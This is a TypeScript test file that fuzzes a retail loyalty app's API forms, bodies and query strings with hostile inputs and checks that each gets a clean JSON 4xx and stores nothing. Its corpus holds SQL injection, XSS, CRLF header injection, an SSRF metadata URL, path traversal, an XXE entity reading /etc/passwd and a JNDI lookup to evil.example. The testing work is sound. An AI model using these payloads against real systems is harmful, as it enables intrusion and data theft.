// A generated corpus of hostile values (empty, huge, unicode with RTL and emoji, control characters,
// SQL and HTML fragments, URLs, IPs, user@host and UNC paths, wrong JSON types, arrays for objects,
// prototype-pollution keys) against every form and API body, and the persona list's query string.
// Each answer is a 4xx with a JSON {error: {message}} and nothing stored, or, for a value that is
// merely unusual but valid, a 2xx; never a 5xx, never HTML. Webhook intake has its own hostile
// cases in test/sync/webhooks.test.ts (unknown secret, oversized, garbage, replays).
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { sql } from 'kysely';
import { startEmulator, type Emulator } from '../../emulator/index.ts';
import { startTestServer, type TestServer } from '../helpers/test-server.ts';
import { setUpCompany, type Company } from './two-companies.ts';

let emulator: Emulator;
let server: TestServer;
let company: Company;

before(async () => {
  emulator = await startEmulator();
  server = await startTestServer({ env: { LIGHTSPEED_BASE_URL: emulator.baseUrlTemplate }, jobs: true });
  company = await setUpCompany(server, emulator, 'hostile-shop', 21);
});
after(async () => {
  await server.close();
  await emulator.close();
});

const hostileStrings = [
  '',
  ' ',
  '\t\n',
  'a'.repeat(5000),
  '\u202Egnp.exe\u202C',
  'مرحبا بالعالم',
  'שלום',
  '😀🎉👩‍👩‍👧‍👦',
  'Zoë Ñandú 漢字',
  '\u0000',
  'bell\u0007',
  'line\r\nSet-Cookie: injected=1',
  "'; DROP TABLE users; --",
  "' OR '1'='1",
  'Robert"); DELETE FROM personas; --',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  'https://evil.example/steal',
  'http://169.254.169.254/latest/meta-data',
  '127.0.0.1:5432',
  '[::1]',
  'user@host',
  'admin@evil.example',
  '\\\\server\\share',
  '../../etc/passwd',
  '%00%2e%2e',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  'evil.retail.lightspeed.app',
  '\uFEFF\u200B',
  '\uD800',
];
const hostileNonStrings: unknown[] = [null, 0, -1, 1.5, 1e308, -1e308, true, false, [], ['a'], [1, 2], {}, { $gt: '' }, { __proto__: { polluted: true } }, [[[[[]]]]]];
/** Every value tried in every field. */
const corpus: unknown[] = [...hostileStrings, ...hostileNonStrings];

/** Whole bodies that are not the object a route expects. */
const hostileBodies: Array<{ label: string; body: string; contentType?: string }> = [
  { label: 'array', body: '[]' },
  { label: 'array of objects', body: '[{"name":"x"}]' },
  { label: 'string', body: '"hello"' },
  { label: 'number', body: '42' },
  { label: 'null', body: 'null' },
  { label: '__proto__ key', body: '{"__proto__": {"polluted": true}, "name": "x"}' },
  { label: 'constructor.prototype key', body: '{"constructor": {"prototype": {"polluted": true}}}' },
  { label: 'truncated JSON', body: '{"name": "x' },
  { label: 'trailing garbage', body: '{"name": "x"} trailing' },
  { label: 'deep nesting', body: '['.repeat(20000) + ']'.repeat(20000) },
  { label: 'huge body', body: JSON.stringify({ name: 'x'.repeat(400_000) }) },
  { label: 'form encoded', body: 'name=x&email=y', contentType: 'application/x-www-form-urlencoded' },
  { label: 'xml', body: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', contentType: 'application/xml' },
];

// Passwords are free text of 10–200 characters, so most hostile strings are valid ones; they are
// tried on sign-in, where an accepted value costs no password hash.
type Endpoint = { method: string; path: () => string; valid: () => Record<string, unknown>; fields: string[]; signedIn: boolean; corpus?: unknown[] };

/**
 * Creating an account hashes a password (deliberately slow), so the account forms get the values
 * that must be refused plus a few that must pass; the full text corpus runs on the other forms.
 */
// eslint-disable-next-line no-control-regex -- picking the control-character cases is the point
const accountCorpus: unknown[] = [...hostileStrings.filter((text) => text.trim() === '' || text.length > 300 || /[\u0000-\u001f\uFEFF\u200B\uD800]/.test(text)), 'مرحبا', '😀🎉', '<script>alert(1)</script>', "' OR '1'='1", 'user@host', ...hostileNonStrings];

const endpoints: Endpoint[] = [
  { method: 'POST', path: () => '/api/auth/sign-up', valid: () => ({ companyName: 'Hostile Co', name: 'Ann', email: `ann-${randomUUID().slice(0, 8)}@example.test`, password: 'long password 1' }), fields: ['companyName', 'name', 'email'], signedIn: false, corpus: accountCorpus },
  { method: 'POST', path: () => '/api/auth/sign-in', valid: () => ({ email: company.email, password: company.password }), fields: ['email', 'password'], signedIn: false },
  { method: 'POST', path: () => '/api/users', valid: () => ({ name: 'New User', email: `user-${randomUUID().slice(0, 8)}@example.test`, password: 'long password 1', role: 'member' }), fields: ['name', 'email', 'role'], signedIn: true, corpus: accountCorpus },
  { method: 'POST', path: () => '/api/connections/lightspeed-x/credentials', valid: () => ({ token: `lsxs_pt_${'x'.repeat(32)}`, storeAddress: 'another-shop' }), fields: ['token', 'storeAddress'], signedIn: true },
  { method: 'PUT', path: () => `/api/connections/lightspeed-x/credentials/${company.credentialId}/token`, valid: () => ({ token: company.store.token }), fields: ['token'], signedIn: true },
  { method: 'PUT', path: () => '/api/connections/lightspeed-x', valid: () => ({ ageGateConfirmed: true }), fields: ['ageGateConfirmed', 'settings'], signedIn: true },
  { method: 'POST', path: () => '/api/retail-stores', valid: () => ({ name: 'Corner Store', timeZone: 'America/Denver', address: { line1: '1 Main St' } }), fields: ['name', 'timeZone', 'address', 'active'], signedIn: true },
  { method: 'PUT', path: () => `/api/retail-stores/${company.storeIds[0]}`, valid: () => ({ name: 'hostile-shop flagship', timeZone: 'America/Chicago' }), fields: ['name', 'timeZone', 'address', 'active'], signedIn: true },
  { method: 'PUT', path: () => `/api/retail-stores/${company.storeIds[0]}/mappings`, valid: () => ({ locationIds: company.locationIds.slice(0, 1) }), fields: ['locationIds'], signedIn: true },
  {
    method: 'PUT',
    path: () => '/api/loyalty/program',
    valid: () => ({ pointsPerUnit: 1, basis: 'tax_inclusive', startDate: null, earningAttributes: ['layby', 'onaccount', 'pickup', 'delivery', 'service'], minimumAge: null, blockedEmails: [], blockedPhones: [], blockPosStaff: true }),
    fields: ['pointsPerUnit', 'basis', 'startDate', 'earningAttributes', 'minimumAge', 'blockedEmails', 'blockedPhones', 'blockPosStaff'],
    signedIn: true,
  },
  { method: 'POST', path: () => `/api/personas/${company.personaIds[0]}/points`, valid: () => ({ points: 5, reason: 'hostile test', requestId: randomUUID() }), fields: ['points', 'reason', 'requestId'], signedIn: true },
];

/** A digest of everything a form can write; equal digests mean nothing was stored. */
async function fingerprint(): Promise<string> {
  const tables = ['companies', 'users', 'credentials', 'connections', 'retail_stores', 'store_mappings', 'loyalty_programs', 'loyalty_ledger', 'personas', 'notifications'];
  const digests = tables.map((table) => sql`SELECT ${table} || ':' || coalesce(md5(string_agg(to_jsonb(t)::text, ',' ORDER BY to_jsonb(t)::text)), '-') AS digest FROM ${sql.table(table)} t`);
  const result = await sql<{ digest: string }>`${sql.join(digests, sql` UNION ALL `)}`.execute(server.database.db);
  return result.rows.map((row) => row.digest).join(' ');
}

type Answer = { status: number; contentType: string; text: string };

async function send(method: string, path: string, body: string, contentType = 'application/json', signedIn = true): Promise<Answer> {
  const cookie = signedIn ? (company.session as unknown as { cookie: string }).cookie : '';
  const response = await fetch(server.url + path, { method, headers: { 'content-type': contentType, ...(cookie ? { cookie } : {}) }, body });
  return { status: response.status, contentType: response.headers.get('content-type') ?? '', text: await response.text() };
}

const describe = (value: unknown) => (typeof value === 'string' ? JSON.stringify(value.length > 40 ? `${value.slice(0, 40)}…(${value.length})` : value) : JSON.stringify(value));

test('hostile values in every field of every form get a clear 4xx and store nothing, or are stored as the valid text they are', async () => {
  let tried = 0;
  let rejected = 0;
  let accepted = 0;
  const timings: string[] = [];
  for (const endpoint of endpoints) {
    const endpointStarted = Date.now();
    for (const field of endpoint.fields) {
      let before = await fingerprint();
      for (const value of endpoint.corpus ?? corpus) {
        const body = { ...endpoint.valid(), [field]: value };
        const answer = await send(endpoint.method, endpoint.path(), JSON.stringify(body), 'application/json', endpoint.signedIn);
        const label = `${endpoint.method} ${endpoint.path()} ${field}=${describe(value)} → ${answer.status}`;
        tried++;
        assert.ok(answer.status < 500, `${label}: ${answer.text.slice(0, 300)}`);
        assert.match(answer.contentType, /^application\/json/, label);
        const json = JSON.parse(answer.text) as { error?: { message?: unknown } };
        if (answer.status >= 400) {
          rejected++;
          assert.ok(typeof json.error?.message === 'string' && json.error.message.trim().length > 0, `${label}: no error message`);
          assert.equal(await fingerprint(), before, `${label} stored something`);
        } else {
          accepted++;
          before = await fingerprint();
          // Only text can be accepted, and only where the field takes free text or an acceptable choice.
          assert.ok(typeof value === 'string' || typeof value === 'boolean' || value === null || typeof value === 'number' || Array.isArray(value) || typeof value === 'object', label);
        }
      }
    }
    timings.push(`${endpoint.method} ${endpoint.path().replace(/[0-9a-f-]{36}/g, ':id')} ${Date.now() - endpointStarted} ms`);
  }
  assert.equal(({} as Record<string, unknown>).polluted, undefined, 'Object.prototype is untouched');
  console.log(`# ${timings.join('; ')}`);
  console.log(`# hostile field values tried: ${tried} (${rejected} rejected with a JSON 4xx, ${accepted} accepted as valid input)`);
});

test('accepted unusual text comes back exactly as sent, as JSON, never as markup', async () => {
  for (const text of ['<script>alert(1)</script>', 'Zoë Ñandú 漢字 😀', 'مرحبا', "'; DROP TABLE users; --"]) {
    const name = `${text} (round trip)`;
    const created = await send('POST', '/api/retail-stores', JSON.stringify({ name, timeZone: 'UTC' }));
    assert.equal(created.status, 201, created.text);
    assert.match(created.contentType, /^application\/json/);
    const id = (JSON.parse(created.text) as { store: { id: string } }).store.id;
    const read = await fetch(`${server.url}/api/retail-stores/${id}`, { headers: { cookie: (company.session as unknown as { cookie: string }).cookie } });
    assert.equal(read.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(((await read.json()) as { store: { name: string } }).store.name, name);
  }
  // The SPA's page is static: nothing a user typed is ever part of it.
  const page = await (await fetch(server.url + '/')).text();
  assert.doesNotMatch(page, /alert\(1\)|DROP TABLE/);
});

test('hostile whole bodies and query strings get a clear 4xx, never a 5xx', async () => {
  let tried = 0;
  for (const endpoint of endpoints) {
    for (const hostile of hostileBodies) {
      const before = await fingerprint();
      const answer = await send(endpoint.method, endpoint.path(), hostile.body, hostile.contentType, endpoint.signedIn);
      const label = `${endpoint.method} ${endpoint.path()} with ${hostile.label} → ${answer.status}`;
      tried++;
      assert.ok(answer.status >= 400 && answer.status < 500, `${label}: ${answer.text.slice(0, 200)}`);
      assert.match(answer.contentType, /^application\/json/, label);
      assert.ok(((JSON.parse(answer.text) as { error?: { message?: string } }).error?.message ?? '').length > 0, label);
      assert.equal(await fingerprint(), before, `${label} stored something`);
    }
  }
  const cookie = (company.session as unknown as { cookie: string }).cookie;
  const queryKeys = ['q', 'sort', 'direction', 'limit', 'cursor', 'favoriteStoreId', 'loyalty', 'archived', 'sourcedFrom'];
  for (const path of ['/api/personas', '/api/personas/export.csv', '/api/integrations']) {
    for (const key of queryKeys) {
      for (const value of [...hostileStrings.filter((text) => text !== '\uD800'), '-1', '0', '99999999999', 'NaN', '1e3', 'a&q=b', 'a'.repeat(3000)]) {
        const response = await fetch(`${server.url}${path}?${key}=${encodeURIComponent(value)}&${key}=${encodeURIComponent(value)}`.replace(/&[^&]*$/, ''), { headers: { cookie } });
        const label = `GET ${path}?${key}=${describe(value)} → ${response.status}`;
        tried++;
        assert.ok(response.status < 500, label);
        if (response.status >= 400) {
          assert.match(response.headers.get('content-type') ?? '', /^application\/json/, label);
          assert.ok(((await response.json()) as { error?: { message?: string } }).error?.message, label);
        } else {
          await response.arrayBuffer();
        }
      }
      // The same key twice arrives as an array.
      const twice = await fetch(`${server.url}${path}?${key}=a&${key}=b`, { headers: { cookie } });
      tried++;
      assert.ok(twice.status < 500, `GET ${path} with ${key} twice → ${twice.status}`);
      await twice.arrayBuffer();
    }
  }
  assert.equal(({} as Record<string, unknown>).polluted, undefined, 'Object.prototype is untouched');
  console.log(`# hostile bodies and query strings tried: ${tried}`);
});
